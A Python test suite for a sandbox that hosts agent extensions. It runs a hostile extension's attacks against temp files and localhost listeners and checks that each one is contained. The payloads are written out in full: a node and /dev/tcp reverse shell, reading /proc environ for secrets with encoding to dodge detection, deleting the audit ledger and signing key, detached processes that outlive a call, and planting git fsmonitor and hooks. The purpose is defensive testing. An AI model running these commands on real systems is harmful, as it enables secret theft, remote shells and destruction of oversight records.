"""Issue 17's attacks, by a real hostile extension in a real worker, against a temp HOME.

Each attack goes through every way an extension starts a process (``pi.exec``, ``node:child_process``,
pi's bash tool), once with exec mediation as the profile sets it and once with mediation switched off,
so the OS sandbox alone is shown to hold. After each one: the attack failed, the ledger recorded the
call, settings.json / the ledger / the signing key / auth.json are unchanged, the canary in HOME
survives, the supervisor's secret appears nowhere (results, ledger, alerts), no process outlives the
call, and the test's listeners got no connection. Payloads only target the test's own temp files and
127.0.0.1 / unix listeners.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from pi_sandbox.audit.verify import verify_ledger
from pi_sandbox.runtime.discovery import ExtensionSource
from pi_sandbox.runtime.host import ExtensionHost
from tests.conftest import OpenSandbox, PiEnv
from tests.runtime.conftest import MakeHost, promote_to_trusted
from tests.sandbox.conftest import SECRET, Listener, digest, host_pids_with

HOSTILE = Path(__file__).resolve().parent / "hostile" / "exec_escape.ts"
EXT = "exec_escape"
VIAS = ("exec", "child", "bash")
MEDIATION = {"mediated": {}, "unmediated": {"execMediation": {"enabled": False}}}


@dataclass
class Arena:
    env: PiEnv
    host: ExtensionHost
    tcp: Listener
    unix_path: Listener
    unix_abstract: Listener
    watched: dict[Path, str]
    marker: str

    def attack(self, via: str, line: str) -> str:
        before = self._exec_entries()
        result = self.host.call_tool(EXT, "attack", {"via": via, "line": line})
        out: str = json.loads(result["content"][0]["text"])["out"]
        assert self._exec_entries() > before, "the ledger recorded no exec call"
        return out

    def _exec_entries(self) -> int:
        return sum(1 for e in self.host.sandbox.store.query_ledger(extension_id=EXT, limit=10_000)
                   if e.capability == "exec")

    def assert_contained(self, *outputs: str) -> None:
        for path, was in self.watched.items():
            assert path.exists() and digest(path) == was, f"{path} changed"
        report = verify_ledger(self.host.sandbox.store)
        assert report.chain_valid, report.to_dict()
        deadline = time.monotonic() + 3
        while host_pids_with(self.marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert host_pids_with(self.marker) == [], "a process outlived the call"
        time.sleep(0.2)
        assert (self.tcp.connections, self.unix_path.connections, self.unix_abstract.connections) == (0, 0, 0)
        store = self.host.sandbox.store
        evidence = json.dumps([e.to_dict() if hasattr(e, "to_dict") else repr(e) for e in store.query_ledger(
            limit=10_000)]) + repr(store.query_alerts())
        for form in (SECRET, SECRET[::-1], bytes(b ^ 1 for b in SECRET.encode()).hex()):
            for text in (*outputs, evidence):
                assert form not in text, "the supervisor's secret leaked"


@pytest.fixture(params=sorted(MEDIATION))
def arena(request: pytest.FixtureRequest, pi_env: PiEnv, open_sandbox: OpenSandbox, make_host: MakeHost,
          monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Arena]:
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
    settings = {"extensionPolicy": {"profile": "permissive", "allowDangerous": True, **MEDIATION[request.param]}}
    box = open_sandbox(settings=settings)
    host = make_host(sandbox=box)
    loaded = host.load([ExtensionSource(EXT, HOSTILE, HOSTILE.parent, "cli")])
    assert [e.status for e in loaded] == ["loaded"], [e.error for e in loaded]
    promote_to_trusted(host, EXT)
    canary = pi_env.home / "canary.txt"
    canary.write_text("canary\n")
    (pi_env.agent_dir / "auth.json").write_text(json.dumps({"token": SECRET}))
    watched = [pi_env.global_settings, pi_env.state_dir / "ledger-signing.key", canary, pi_env.agent_dir / "auth.json"]
    sockdir = tmp_path / "run"  # a stand-in for /run/docker.sock or an ssh-agent socket, outside the workspace
    sockdir.mkdir()
    listeners = [Listener(socket.AF_INET, ("127.0.0.1", 0)), Listener(socket.AF_UNIX, str(sockdir / "agent.sock")),
                 Listener(socket.AF_UNIX, f"\0pi-e2e-{os.getpid()}")]
    yield Arena(pi_env, host, *listeners, {p: digest(p) for p in watched}, f"47.{os.getpid()}3")
    for listener in listeners:
        listener.close()


def _payloads(a: Arena) -> dict[str, str]:
    env, port, m = a.env, a.tcp.address[1], a.marker
    settings, db, key = env.global_settings, env.state_dir / "security.db", env.state_dir / "ledger-signing.key"
    loose = json.dumps({"extensionPolicy": {"profile": "permissive", "execMediation": {"enabled": False}}})
    sock = str(a.unix_path.address)
    connect = ("import socket,sys\nfor a in sys.argv[1:]:\n try:\n  s=socket.socket(socket.AF_UNIX);"
               "s.connect(a.replace('@','\\0',1));print('CONNECTED')\n except OSError as e: print('no',e.errno)")
    return {
        "rewrite_settings": (
            f"python3 -c \"open('{settings}','w').write('{loose}')\"; "
            f"node -e \"require('fs').writeFileSync('{settings}', process.argv[1])\" '{loose}'; "
            f"echo '{loose}' > {settings}; cat {settings}"),
        "delete_ledger_and_key": (
            f"python3 -c \"import sqlite3;c=sqlite3.connect('{db}');c.execute('DELETE FROM ledger');c.commit()\"; "
            f"rm -f {key} {db} {db}-wal; : > {key}; ls -la {env.state_dir}"),
        "read_supervisor_environ": (
            "cat /proc/$PPID/environ /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | rev; "
            "cat /proc/$PPID/environ 2>/dev/null | python3 -c "
            "'import sys; print(bytes(b ^ 1 for b in sys.stdin.buffer.read()).hex())'; env | rev"),
        "node_reverse_shell": (
            f"node -e \"const s=require('net').connect({port},'127.0.0.1',()=>{{const sh=require('child_process')"
            f".spawn('sh',[],{{stdio:[s,s,s]}});}});s.on('error',e=>console.log('refused',e.code))\"; "
            f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' 2>&1; python3 -c \"import socket;"
            f"socket.create_connection(('127.0.0.1',{port}),2)\" 2>&1 | tail -1"),
        "outlive_the_call": (
            f"setsid sleep {m} </dev/null >/dev/null 2>&1 & nohup sleep {m} >/dev/null 2>&1 & "
            f"( sleep {m} & ) ; node -e \"require('child_process').spawn('sleep',['{m}'],"
            f"{{detached:true,stdio:'ignore'}}).unref()\"; echo started"),
        "unix_sockets": f"python3 -c \"{connect}\" {sock} @pi-e2e-{os.getpid()}",
        "clobber_home_canary": f"rm -f {env.home}/canary.txt; echo pwned > {env.home}/canary.txt; ls {env.home}",
    }


@pytest.mark.parametrize("via", VIAS)
def test_attacks_fail_and_leave_nothing_behind(arena: Arena, via: str) -> None:
    outputs = []
    for name, line in _payloads(arena).items():
        out = arena.attack(via, line)
        outputs.append(out)
        assert "CONNECTED" not in out, name
        arena.assert_contained(out)
    arena.assert_contained(*outputs)


def test_git_config_and_hooks_cannot_be_planted_by_fs_writes_under_safe(
    pi_env: PiEnv, make_host: MakeHost, tmp_path: Path
) -> None:
    """Without exec at all: the plant that ran attacker code on the user's next `git status`."""
    ws = pi_env.workspace
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    before = {p: digest(p) for p in (ws / ".git").rglob("*") if p.is_file()}
    host = make_host()  # default settings: profile safe
    loaded = host.load([ExtensionSource(EXT, HOSTILE, HOSTILE.parent, "cli")])
    assert [e.status for e in loaded] == ["loaded"]
    pwned = tmp_path / "pwned"
    plants: list[dict[str, Any]] = [
        {"path": str(ws / ".git" / "config"), "data": f"[core]\n\tfsmonitor = touch {pwned}\n"},
        {"path": ".git/config", "data": f"[core]\n\tfsmonitor = touch {pwned}\n"},
        {"path": ".git/hooks/pre-commit", "data": f"#!/bin/sh\ntouch {pwned}\n"},
        {"path": "sub/.git", "mkdir": "sub", "data": "gitdir: ../evil\n"},
        {"path": ".vscode/tasks.json", "mkdir": ".vscode", "data": "{}"},
        {"path": ".envrc", "data": f"touch {pwned}\n"},
    ]
    for plant in plants:
        result = host.call_tool(EXT, "plant", plant)["content"][0]["text"]
        assert result.startswith("refused"), (plant, result)
    denied = [e for e in host.sandbox.store.query_ledger(extension_id=EXT, limit=1000)
              if e.decision == "deny" and e.reason == "protected_path"]
    assert len(denied) >= len(plants) - 1  # the mkdir of "sub" is allowed; its .git is not
    assert {p: digest(p) for p in (ws / ".git").rglob("*") if p.is_file()} == before
    subprocess.run(["git", "-C", str(ws), "status", "--short"], check=True, capture_output=True)
    assert not pwned.exists()
    alerts = [a for a in host.sandbox.store.query_alerts(extension_id=EXT) if "protected_path" in a.reason_codes]
    assert alerts


def test_sandboxed_listener_stand_ins_are_real(arena: Arena) -> None:
    """The listeners the attacks target do accept connections from outside the sandbox (so 0 means refused)."""
    for address, family in ((arena.tcp.address, socket.AF_INET), (arena.unix_path.address, socket.AF_UNIX)):
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.connect(address)
    deadline = time.monotonic() + 2
    while arena.tcp.connections + arena.unix_path.connections < 2 and time.monotonic() < deadline:
        time.sleep(0.02)
    assert (arena.tcp.connections, arena.unix_path.connections) == (1, 1)


